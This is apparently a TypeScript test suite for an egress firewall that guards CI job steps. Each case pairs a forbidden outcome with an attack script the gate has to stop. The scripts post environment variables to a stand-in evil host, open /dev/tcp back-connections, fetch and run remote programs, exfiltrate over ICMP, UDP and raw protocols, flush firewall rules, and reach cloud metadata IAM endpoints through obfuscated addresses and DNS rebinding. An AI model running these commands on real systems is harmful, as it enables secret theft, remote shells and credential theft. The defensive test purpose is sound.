// SPDX-License-Identifier: Apache-2.0
import { HOST_ADDRESS, HOST_SERVICE_PORT, ORIGINS, ORIGINS6 } from '../_internet/addresses.ts'
import type { Arrival } from '../_internet/internet.ts'
import { bypass } from './_bypass.ts'
import { FRAME_SENDER, QUIC_INITIAL } from './_packets.ts'

const reachedEvil = (arrival: Arrival): boolean => arrival['server'] === ORIGINS.evil || arrival['address'] === ORIGINS.evil
const reachedTcp =
  (address: string, port: number) =>
  (arrival: Arrival): boolean =>
    arrival.kind === 'tcp' && arrival['address'] === address && arrival['port'] === port

const atHost = (arrival: Arrival): boolean => arrival.kind === 'tcp' && arrival['port'] === HOST_SERVICE_PORT

bypass({
  never: 'a step posts its environment to a host that no rule names',
  rows: [3, 5, 12],
  script: 'env | curl -sS -m 5 --data-binary @- https://evil.test/upload',
  through: reachedEvil,
  refusal: 'no-rule',
})
bypass({
  never: 'a shell connects back to an address',
  rows: [18, 45, 46],
  // A connection that the gate has not yet taken when its step ends is refused, and not told.
  script: `exec 3<>/dev/tcp/${ORIGINS.evil}/4444 && id >&3; sleep 0.5`,
  through: reachedTcp(ORIGINS.evil, 4444),
  refusal: 'no-rule',
})
bypass({
  never: 'a step reaches an address by its number, without a name',
  rows: [5, 30],
  script: `curl -skS -m 5 -d x https://${ORIGINS.evil}/upload`,
  through: reachedEvil,
  refusal: 'no-rule',
})
bypass({
  never: 'an install script fetches a program from a host that no rule names',
  rows: [4, 10, 12, 14, 15],
  script: 'curl -sS -m 5 https://evil.test/title > program && sh ./program',
  through: reachedEvil,
  refusal: 'no-rule',
})
bypass({
  never: 'an allowed name, said to another address, opens the door to that address',
  rows: [30, 31],
  script: `curl -sS -m 5 --resolve web.test:443:${ORIGINS.evil} https://web.test/title`,
  through: reachedEvil,
  refusal: 'no-rule',
})
bypass({
  never: 'an allowed host is reached at a port that the rule does not name',
  rows: [30],
  script: 'exec 3<>/dev/tcp/web.test/7777 && echo other port >&3',
  through: reachedTcp(ORIGINS.web, 7777),
  refusal: 'no-rule',
})
bypass({
  never: 'a step takes the first packet of a fast-open connection past the gate',
  rows: [30],
  files: {
    'attack.py': `import socket\ns = socket.socket()\ns.sendto(b'fast open', socket.MSG_FASTOPEN, ('${ORIGINS.evil}', 4444))\ns.recv(10)\n`,
  },
  script: 'python3 attack.py',
  through: reachedTcp(ORIGINS.evil, 4444),
  refusal: 'no-rule',
})
bypass({
  never: 'UDP leaves where only TCP is allowed, as QUIC would',
  rows: [30],
  script: `for i in 1 2 3; do echo quic > /dev/udp/${ORIGINS.evil}/443; done`,
  through: (arrival) => arrival.kind === 'udp' && arrival['address'] === ORIGINS.evil,
  refusal: 'datagram',
})
bypass({
  never: 'a QUIC handshake reaches a host that is allowed over TLS',
  rows: [30],
  files: { 'attack.py': QUIC_INITIAL },
  script: 'python3 attack.py web.test 443',
  through: (arrival) => arrival.kind === 'udp' && arrival['address'] === ORIGINS.web,
  refusal: 'datagram',
})
bypass({
  never: 'an echo request carries data out',
  rows: [30],
  files: {
    'attack.py': `import socket, struct
def checksum(data):
    total = sum(struct.unpack(f'>{len(data) // 2}H', data))
    total = (total >> 16) + (total & 0xffff)
    return 0xffff - ((total >> 16) + (total & 0xffff))
head = lambda check: struct.pack('>BBHHH', 8, 0, check, 7, 1) + b'loot'
for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
    try:
        socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP).sendto(head(checksum(head(0))), ('${ORIGINS.evil}', 0))
    except OSError as e:
        print(kind, e)
`,
  },
  script: 'python3 attack.py',
  through: ({ kind }) => kind === 'icmp',
  refusal: null,
})
bypass({
  never: 'a transport that nobody filters (GRE, SCTP, DCCP, UDP-Lite) leaves',
  rows: [30],
  files: {
    'attack.py': `import socket
for kind, protocol in [(socket.SOCK_RAW, 47), (socket.SOCK_RAW, 132), (socket.SOCK_STREAM, 132), (6, 33), (socket.SOCK_DGRAM, 136)]:
    try:
        s = socket.socket(socket.AF_INET, kind, protocol)
        s.settimeout(1)
        s.connect(('${ORIGINS.evil}', 4444))
        s.send(b'loot')
    except OSError as e:
        print(kind, protocol, e)
`,
  },
  script: 'python3 attack.py',
  through: ({ kind }) => kind === 'protocol',
  refusal: null,
})
bypass({
  never: 'a frame that a step wrote itself leaves by its link',
  rows: [30],
  files: { 'attack.py': FRAME_SENDER },
  script: `python3 attack.py ${ORIGINS.evil} 443`,
  through: (arrival) => arrival.kind === 'udp' && arrival['address'] === ORIGINS.evil,
  refusal: null,
})
bypass({
  never: 'IPv6 leads past the gate, over TCP or UDP',
  rows: [30],
  script: `exec 3<>/dev/tcp/${ORIGINS6.evil}/4444 && echo loot >&3; exec 4<>/dev/udp/${ORIGINS6.evil}/443 && echo loot >&4`,
  through: (arrival) => arrival['address'] === ORIGINS6.evil,
  refusal: null,
})
bypass({
  never: 'an address of IPv4 in the notation of IPv6 is another destination',
  rows: [30],
  script: `exec 3<>/dev/tcp/::ffff:${ORIGINS.evil}/4444 && echo loot >&3`,
  through: reachedEvil,
  refusal: 'no-rule',
})
bypass({
  never: 'a step that takes the firewall, the routes and the resolver away finds a way out',
  rows: [24],
  script: `{ nft flush ruleset; iptables -F; iptables -t nat -F; ip address add 20.10.255.9/30 dev eth0; ip route replace default via 20.10.255.1; } > /dev/null 2>&1
    exec 3<>/dev/tcp/${ORIGINS.evil}/4444 && id >&3`,
  through: reachedTcp(ORIGINS.evil, 4444),
  refusal: 'no-rule',
})
bypass({
  never: 'a source address that was chosen by the step is believed',
  rows: [30],
  files: {
    // IP_FREEBIND (15) needs no privilege; the plain run has no such address to come from, and takes its own.
    'attack.py': `import socket\nfor source in ('198.18.1.2', '198.18.255.255', '0.0.0.0'):\n    s = socket.socket()\n    s.settimeout(2)\n    s.setsockopt(socket.SOL_IP, 15, 1)\n    try:\n        s.bind((source, 0))\n        s.connect(('${ORIGINS.evil}', 4444))\n        s.sendall(b'spoofed')\n        s.recv(10)\n    except OSError as e:\n        print(source, e)\n`,
  },
  script: 'python3 attack.py',
  through: reachedTcp(ORIGINS.evil, 4444),
  refusal: 'no-rule',
})
bypass({
  never: 'the metadata service is reached by its address',
  rows: [30],
  script: `curl -sS -m 5 http://${ORIGINS.metadata}/latest/meta-data/iam/`,
  through: reachedTcp(ORIGINS.metadata, 80),
  refusal: 'no-rule',
})
bypass({
  never: 'the metadata service is reached by its address in another notation',
  rows: [30],
  script:
    'for host in 2852039166 0xa9fea9fe 0251.0376.0251.0376 169.16689662 [::ffff:a9fe:a9fe]; do curl -gsS -m 3 "http://$host/latest/meta-data/iam/"; done',
  through: reachedTcp(ORIGINS.metadata, 80),
  refusal: 'no-rule',
})
bypass({
  never: 'an allowed name that stands for the metadata service opens it',
  rows: [30],
  allow: ['metadata.test:80'],
  script: 'curl -sS -m 5 http://metadata.test/latest/meta-data/iam/',
  through: reachedTcp(ORIGINS.metadata, 80),
  refusal: 'address',
})
bypass({
  never: 'an allowed name that stands for a private address opens the private network',
  rows: [30],
  allow: ['intranet.test:80'],
  script: 'curl -sS -m 5 http://intranet.test/',
  through: reachedTcp(ORIGINS.intranet, 80),
  refusal: 'address',
})
bypass({
  never: 'an allowed name that changes its address opens what it changes to',
  rows: [30],
  allow: ['rebind.test:80'],
  script: 'for i in 1 2 3 4 5 6 7 8; do curl -sS -m 3 http://rebind.test/latest/meta-data/ || true; done',
  through: reachedTcp(ORIGINS.metadata, 80),
  refusal: null,
})
for (const [notation, name, address] of [
  ['NAT64', 'nat64.test', ORIGINS6.nat64],
  ['6to4', 'sixtofour.test', ORIGINS6.sixToFour],
] as const) {
  bypass({
    never: `an allowed name that stands for the metadata service in the notation of ${notation} opens it`,
    rows: [30],
    allow: [`${name}:80`],
    script: `curl -sS -m 5 http://${name}/latest/meta-data/`,
    through: reachedTcp(address, 80),
    refusal: 'address',
  })
}
for (const [place, name] of [
  ['loopback of the machine', 'loopback.test'],
  ['loopback of the machine, mapped into IPv6,', 'mapped.test'],
  ['machine itself', 'own.test'],
] as const) {
  bypass({
    never: `an allowed name that stands for the ${place} opens a service there`,
    rows: [30],
    allow: [`${name}:${HOST_SERVICE_PORT}`],
    script: `curl -sS -m 5 http://${name}:${HOST_SERVICE_PORT}/`,
    through: atHost,
    refusal: 'address',
  })
}
bypass({
  never: 'a service of the machine that runs the job is reached by its address',
  rows: [30],
  script: `curl -sS -m 5 http://${HOST_ADDRESS}:${HOST_SERVICE_PORT}/`,
  through: atHost,
  refusal: 'no-rule',
})
bypass({
  never: 'more leaves by an allowed door than its budget',
  rows: [33],
  rules: '  - { host: web.test, port: 80, budget: { out: 64KiB } }',
  script: 'head -c 2000000 /dev/zero > loot; curl -sS -m 10 -T loot http://web.test/upload',
  through: (arrival) => arrival['uri'] === '/upload' && Number(arrival['bytes']) > 200_000,
  refusal: 'budget',
})
